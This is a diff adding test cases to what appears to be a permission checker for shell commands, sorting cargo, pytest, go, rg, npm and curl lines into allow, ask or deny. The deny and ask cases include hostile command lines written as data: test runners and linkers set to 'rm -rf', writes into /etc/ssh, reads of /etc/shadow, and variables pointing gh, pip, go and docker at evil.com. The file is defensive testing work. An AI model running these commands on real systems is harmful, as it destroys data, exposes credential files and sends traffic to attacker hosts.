@@ -33,6 +33,28 @@ describe('commands a tool runs from its own words are seen', () => {
     ['cmake -E copy a /etc/x', 'deny'], ['cmake -E frobnicate x', 'ask'],
     // go's program flags; npm's stored scripts and shells.
     ['go test -exec "rm y" ./...', 'deny'], ['go build -toolexec=rm ./...', 'deny'], ['npm pkg set scripts.test="rm y"', 'deny'],
+    // cargo's --config keys that name a program (a test binary runs through target.T.runner), files, unstable flags.
+    [`cargo test --config 'target.x86_64-unknown-linux-gnu.runner="rm -rf y"'`, 'deny'], [`cargo --config "target.'cfg(all())'.runner='rm'" test`, 'deny'],
+    [`cargo test --config='build.rustc-wrapper=["rm", "-rf"]'`, 'deny'], [`cargo build --config 'target.x.linker="rm"'`, 'deny'],
+    [`cargo test --config target.'cfg(all())'.runner=rm`, 'ask'], ['cargo test --config x.toml', 'ask'], [`cargo test --config 'alias.t="run"'`, 'ask'],
+    [`cargo test --config 'build.rustflags=["-C", "linker=rm"]'`, 'ask'], [`cargo test --config 'env.LD_PRELOAD="x.so"'`, 'ask'], ['cargo test -Zhost-config', 'ask'],
+    ['cargo test "$F"', 'ask'], ['cargo test --config "$C"', 'ask'], ['cargo test --target-dir /etc/x', 'deny'], [`cargo test --config 'build.target-dir="/etc/x"'`, 'deny'],
+    ['cargo test --manifest-path /etc/x/Cargo.toml', 'deny'], ['export CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=rm; cargo test', 'ask'],
+    ['export RUSTFLAGS="-C linker=/tmp/x"; cargo test', 'ask'],
+    // pytest's own files (it removes an existing --basetemp), the code it loads, the host it sends output to.
+    ['python3 -m pytest --junitxml=/etc/x', 'deny'], ['pytest --junit-xml /etc/x', 'deny'], ['python3 -m pytest --basetemp=/etc/ssh', 'deny'],
+    ['py.test --log-file=/etc/x', 'deny'], ['python3 -m pytest --debug=/etc/x', 'deny'], ['pytest --debug /etc/x', 'deny'], ['pytest -o cache_dir=/etc/x', 'deny'],
+    ['pytest -ocache_dir=/etc/x', 'deny'], ['pytest --override-ini=cache_dir=/etc/x', 'deny'], ['pytest -c /etc/x.ini', 'deny'], ['pytest --rootdir=/etc', 'deny'],
+    ['pytest --cov=src --cov-report=html:/etc/x', 'deny'], ['pytest --pastebin=all', 'ask'], ['pytest -p evil', 'ask'], ['pytest -pevil', 'ask'],
+    ['pytest --pdbcls=evil:X', 'ask'], ['pytest --tx popen//python=rm', 'ask'], ['pytest -o addopts=-pevil', 'ask'], ['pytest @args.txt', 'ask'],
+    ['pytest "$T"', 'ask'], ['pytest --html=/etc/r.html', 'ask'], ['pytest /etc/x/test_a.py', 'deny'],
+    // A command no table knows: a word that looks like a path, or an --opt=VALUE's value, may be a file it reads or writes.
+    ['terraform fmt /etc/x', 'ask'], ['terraform plan -out=/etc/x', 'ask'], ['npx tsc --outDir /etc/x', 'ask'], ['npx jest --outputFile=/etc/x --json', 'ask'],
+    ['mypy --cache-dir=/etc/x', 'ask'], ['ruff check --output-file ~/../../etc/x', 'ask'], ['./tool.sh /etc/x', 'ask'], ['mytool C:\\x ../../../etc/x', 'ask'],
+    // go's profile and trace files, -outputdir, an external linker; rg's --hostname-bin program.
+    ['go test -trace=/etc/x', 'deny'], ['go test -blockprofile /etc/x', 'deny'], ['go test -outputdir /etc -cpuprofile x', 'deny'],
+    [`go test -ldflags='-linkmode=external -extld=rm'`, 'ask'], ['rg --hostname-bin=rm x', 'deny'], ['rg --hostname-bin rm x', 'deny'],
+    [`mytool ${Array.from({ length: 20 }, (_, k) => `src/a${k}.ts`).join(' ')} /etc/x`, 'ask'], [`mytool ${Array.from({ length: 40 }, (_, k) => `src/a${k}.ts`).join(' ')}`, 'ask'],
     ['npm set-script test "rm y"', 'deny'], ['npm run --script-shell=/tmp/x test', 'ask'], ['npm config set script-shell /tmp/x', 'ask'],
     ['npm --prefix /etc install', 'deny'],
     // npm reads options anywhere before `--`: an expansion may be `--script-shell=rm` (hunt 2, F8);
@@ -205,6 +227,7 @@ describe('option forms and names the readers first missed', () => {
     // Variables that choose where later commands connect.
     ['export https_proxy=http://evil.com:3128; curl https://github.com', 'ask'], ['export PIP_INDEX_URL=https://evil.com/simple; pip install x', 'ask'],
     ['export GOPROXY=https://evil.com; go get x', 'ask'], ['export DOCKER_HOST=tcp://evil.com:2375; docker ps', 'ask'],
+    ['export GH_HOST=evil.com; gh pr list', 'ask'], ['export GH_REPO=evil.com/o/r; gh pr list', 'ask'],
     // A file: URL is a path the tool reads.
     ['curl file:///etc/shadow', 'deny'], ['curl file://localhost/etc/x', 'deny'], ['wget file:///etc/%73hadow', 'deny'],
     // Percent-encoding that is no UTF-8: unreadable, so it asks (it threw, an internal error, before).
@@ -250,7 +273,13 @@ describe('what a runner hands its command is read', () => {
     expect(decision(line)).toBe(expected);
   });
   it.each(['ls | xargs -n1 echo', 'parallel echo ::: a b c', 'make', 'npm test', 'cmake -G Ninja -B build .',
-    'kubectl get pods -o yaml', './node_modules/.bin/jest', 'python3 -m http.server 8000'])('%s stays allowed', (line) => {
+    'kubectl get pods -o yaml', './node_modules/.bin/jest', 'python3 -m http.server 8000', 'cargo test --release -p core -j4 --features a,b',
+    'cargo test --config build.jobs=2', `cargo build --config 'profile.dev.opt-level=1'`, 'cargo test --target-dir target/ci', 'cargo test -- --nocapture x',
+    'cargo test --manifest-path crates/a/Cargo.toml', 'cargo clippy --all-targets -- -D warnings', 'pytest', 'python3 -m pytest -x -q tests/test_a.py::test_b',
+    'pytest -k "a and not b" -n 4 --tb=short', 'pytest -p no:cacheprovider tests/', 'pytest --junitxml=reports/j.xml --cov=src --cov-report=term-missing',
+    'pytest -o addopts="" -o log_cli=true', 'pytest --lf --maxfail=1 -vv', 'pytest --debug', 'npx tsc --noEmit -p tsconfig.json', 'mypy src/ tests/',
+    'ruff check --fix src/', 'terraform fmt -recursive .', 'go test -ldflags="-s -w" ./...', 'go test -trace=trace.out -cpuprofile=cpu.out ./...', 'npx prettier --check .', 'ls /etc', 'echo /etc/x', 'realpath /etc/x', 'which /etc/x',
+    `mytool ${Array.from({ length: 20 }, (_, k) => `src/a${k}.ts`).join(' ')}`])('%s stays allowed', (line) => {
     expect(decision(line)).toBe('allow');
   });
 });
